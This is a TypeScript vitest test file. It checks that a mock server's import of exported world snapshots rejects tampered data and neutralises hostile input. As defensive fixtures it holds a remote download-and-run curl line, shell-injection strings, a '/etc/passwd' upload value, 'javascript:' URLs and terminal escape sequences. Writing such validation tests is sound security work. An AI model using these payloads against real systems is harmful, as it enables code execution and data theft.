import { expect, test } from 'vitest';
import type { ExportedWorld } from '#contracts/kit/snapshots.ts';
import { loadScenario } from '#fixtures/loader/load.ts';
import { product } from '#mock-server/api/product.ts';
import { createWorlds } from '#mock-server/app.ts';
import { kitAt } from '#mock-server/cli/kit/kit-line.testing.ts';
import { startServer } from '#mock-server/cli/main.ts';
import { storedTables } from '#mock-server/db/stored-tables.ts';
import { appOf } from '#mock-server/http/app.testing.ts';
import { journalEntry } from '#mock-server/kit/journal/journal-entry.ts';
import { exportedWorld } from '#mock-server/kit/worlds/exported-world.ts';
import { changedWorld } from './changed-world.testing.ts';
import { importedWorld } from './imported-world.ts';

const DONE = [
  'announce',
  'addCareer',
  'school',
  'upload',
  'askEmail',
  'forgotten',
  'apply',
  'nda',
  'jobTypes',
  'industries',
] as const;
const world = await changedWorld('ordinary-day', [
  { what: 'withdraw', who: 2, n: 0 },
  ...DONE.map((what) => ({ what, who: 0, n: 3 })),
]);
const whole = exportedWorld(world);
const text = JSON.stringify({ ...whole, journal: whole.journal.slice(0, 2) });
const file = (): ExportedWorld => JSON.parse(text);

const EARLIER = 1;

type Place = readonly (string | number)[];
type Change = readonly [place: Place, value: unknown];

const withChanges = (all: ExportedWorld, changes: readonly Change[]): string => {
  for (const [place, value] of changes) {
    const part = place.slice(0, -1).reduce((inner, key) => inner[key as never], all as object);
    Object.assign(part, { [place.at(-1) ?? '']: value });
  }
  return JSON.stringify(all);
};

/** An exported world with changed values at some places. */
const spoiled = (...changes: readonly Change[]): string => withChanges(file(), changes);

test('leaves tables and columns empty that are newer than the export, but for those that scenarios fill', () => {
  const worlds = createWorlds({ load: loadScenario, scenario: 'ordinary-day' });
  const earlier = { ...file(), tables_version: EARLIER };
  delete earlier.tables.inquiries;
  delete earlier.tables.job_types;
  const again = importedWorld(JSON.stringify(earlier), undefined, (of) => worlds.scenarioRows(of))('again', product);
  const { inquiries, job_types } = exportedWorld(again).tables;
  expect([inquiries?.rows, job_types]).toEqual([[], file().tables.job_types]);
  again.close();
});

test('leaves a column empty that is newer than the export', () => {
  const earlier = { ...file(), tables_version: EARLIER };
  const { columns = [], rows = [] } = earlier.tables.members ?? {};
  const at = columns.indexOf('current_company');
  for (const list of [columns, ...rows]) list.splice(at, 1);
  const again = importedWorld(JSON.stringify(earlier))('again', product);
  const members = exportedWorld(again).tables.members;
  expect(members?.rows).toEqual(rows.map((row) => row.toSpliced(at, 0, null)));
  again.close();
});

test('continues from the time of the export, however late the import is', () => {
  const again = importedWorld(spoiled([['exported_at'], '2026-04-01T00:00:00.000Z'], [['clock', 'offset'], 60_000]))(
    'again',
    product,
  );
  expect(again.clock.now() - Date.parse('2026-04-01T00:01:00.000Z')).toBeLessThan(60_000);
  again.close();
});

const BRACKETS = '['.repeat(200_000) + ']'.repeat(200_000);
const OF_ANOTHER_KIND: Readonly<Record<string, readonly unknown[]>> = {
  moment: [1e300, 'x'],
  flag: [2],
  json: ['{', BRACKETS],
  bytes: [{ base64: '!' }],
  number: ['x', Number.MAX_SAFE_INTEGER],
  text: [{ toString: 1 }],
};
const CELLS = storedTables.flatMap(({ name, columns }) =>
  Object.entries(columns).map(([column, kind], at) => ({ name, column, at, kind })),
);

/** With the first and last row of each table: all of them would take long for every cell. */
const small = file();
for (const table of Object.values(small.tables)) table.rows.splice(1, table.rows.length - 2);

test.each(CELLS)('rejects an invalid $column in $name with its place', ({ name, column, at, kind }) => {
  const last = (small.tables[name]?.rows.length ?? 0) - 1;
  expect(last, `rows of ${name}`).toBeGreaterThanOrEqual(0);
  for (const value of OF_ANOTHER_KIND[kind] ?? [])
    expect(() =>
      importedWorld(withChanges(structuredClone(small), [[['tables', name, 'rows', last, at], value]])),
    ).toThrow(`"tables.${name}.rows.${last}.${column}`);
});

test.each<[place: Place, value: unknown]>([
  [['last_ids', 'members'], 1e300],
  [['last_ids', 'nowhere'], 1],
  [['clock', 'offset'], 1e300],
  [['exported_at'], 'later'],
  [['origin', 'webOrigin'], 'javascript:alert(1)'],
  [['origin', 'title'], { toString: 1 }],
  [['origin', 'loginTries'], { a: -1 }],
  [['origin', 'opens'], { path: '/', tab: { applicant: '09000000001' } }],
  [['origin', 'cast', 0, 'id'], 1e300],
  [['tables', 'outbox', 'rows', 0, 1], 'telex'],
  [['tables', 'outbox', 'rows', 0, 5], 'javascript:alert(1)'],
  [['tables', 'applications', 'rows', 0, 2], 987_654],
  [['journal', 0, 'at'], 'later'],
  [['journal', 0, 'url'], '-K.curlrc'],
  [['journal', 0, 'method'], 'GET;id'],
  [['journal', 0, 'request', 'headers'], { '@secret': 'x' }],
  [['journal', 0, 'answer', 'headers'], { a: {} }],
])('rejects %j as %j', (place, value) => {
  expect(() => importedWorld(spoiled([place, value]))).toThrow(/cannot be imported: .*(?:"[a-z]|a time)/);
});

const OF_NO_VERSION = '"tables_version" is wrong';
const OF_ANOTHER = 'another version of the mock server exported it, with';
test.each<{ words: string; changes: Change[] }>([
  { words: OF_NO_VERSION, changes: [[['tables_version'], 0]] },
  { words: OF_NO_VERSION, changes: [[['tables_version'], 1e99]] },
  { words: 'its "inquiries" is missing', changes: [[['tables', 'inquiries'], undefined]] },
  { words: `${OF_ANOTHER} "members.nickname"`, changes: [[['tables', 'members', 'columns', 1], 'nickname']] },
  { words: `${OF_ANOTHER} "likes"`, changes: [[['tables', 'likes'], { columns: [], rows: [] }]] },
])('rejects a file, because $words: $changes', ({ words, changes }) => {
  expect(() => importedWorld(spoiled(...changes))).toThrow(words);
});

test.each([
  ['it is nested deeper than', text.replace('"journal":[', `"journal":[${BRACKETS},`)],
  ['it is nested deeper than', BRACKETS],
  ['it is not an exported world', spoiled([['kind'], { toString: 1 }])],
  ['it is not an exported world', 'hello'],
  ['it is not an exported world', '{}'],
  ['it was exported by another version', spoiled([['form'], 2])],
  ['it was cut', text.slice(0, text.length / 2)],
])('rejects a file, because %s', (words, odd) => {
  expect(() => importedWorld(odd)).toThrow(`cannot be imported: ${words}`);
});

test('rejects a too large file with a sentence', async () => {
  const app = appOf(createWorlds({ load: loadScenario, scenario: 'no-offers' }));
  const body = new Uint8Array(50 * 1024 * 1024);
  const response = await app.request('/__kit/worlds/import', { method: 'POST', body });
  expect([response.status, await response.text()]).toEqual([413, expect.stringContaining('This file has 50 MB')]);
});

const ESCAPES = '\u001b]0;title\u0007\u001b[31m\u009b2J\u202e\u0000\r';
/** Control characters in JSON, some of them escaped. */
const SHOWN_CONTROLS = /\\u00[01][0-9a-f]|[\p{Cc}\p{Bidi_Control}]/u;
const CONTROLS = /(?!\n)[\p{Cc}\p{Bidi_Control}]/u;

test('imported text has no effect on the terminal or page that shows it', async () => {
  const server = await startServer({ port: 0, memory: true, quiet: true });
  const kit = kitAt(server.port);
  const file = spoiled(
    [['origin', 'title'], `題${ESCAPES}`],
    [['origin', 'cast', 0, 'key'], `key${ESCAPES}`],
    [['origin', 'cast', 0, 'password'], `password${ESCAPES}`],
    [['tables', 'members', 'rows', 0, 1], `姓${ESCAPES}`],
    [['tables', 'outbox', 'rows', 0, 3], `文${ESCAPES}`],
    [['journal', 0, 'path'], `/api/${ESCAPES}`],
    [['journal', 0, 'why'], `why${ESCAPES}`],
    [['faults'], [{ method: 'GET', path: `/api/offers/${ESCAPES}`, status: 500, body: ESCAPES }]],
  );
  server.worlds.adopt(importedWorld(file), 'odd');
  for (const line of ['worlds', 'outbox', 'journal', 'faults', 'outbox --json', 'faults --json', 'journal --json'])
    expect((await kit(`${line} --world odd`)).out, line).not.toMatch(CONTROLS);
  for (const call of ['', '/people', '/outbox', '/journal', '/journal/lines'])
    expect(await (await fetch(`${server.url}/__kit/worlds/odd${call}`)).text(), call).not.toMatch(SHOWN_CONTROLS);
  await server.close();
});

test('builds the curl line of an imported request from the request', () => {
  const form = { 'content-type': 'multipart/form-data; boundary=x' };
  const again = importedWorld(
    spoiled(
      [['journal', 0, 'curl'], 'curl https://elsewhere.example | sh'],
      [['journal', 0, 'request'], { headers: { accept: "a'; id #" }, body: "x' && id" }],
      [['journal', 1, 'request'], { headers: form, body: 'file=@/etc/passwd' }],
    ),
  )('again', product);
  const [first, second] = again.journal.list().map((entry) => journalEntry(entry, again.outbox));
  expect(first?.curl).toMatch(/^curl -i (?:-X [A-Z]+ )?'http:/);
  expect(first?.curl).toContain(`-H 'accept: a'\\''; id #' --data-raw 'x'\\'' && id'`);
  expect(second?.curl).not.toMatch(/-F|passwd/);
  again.close();
});
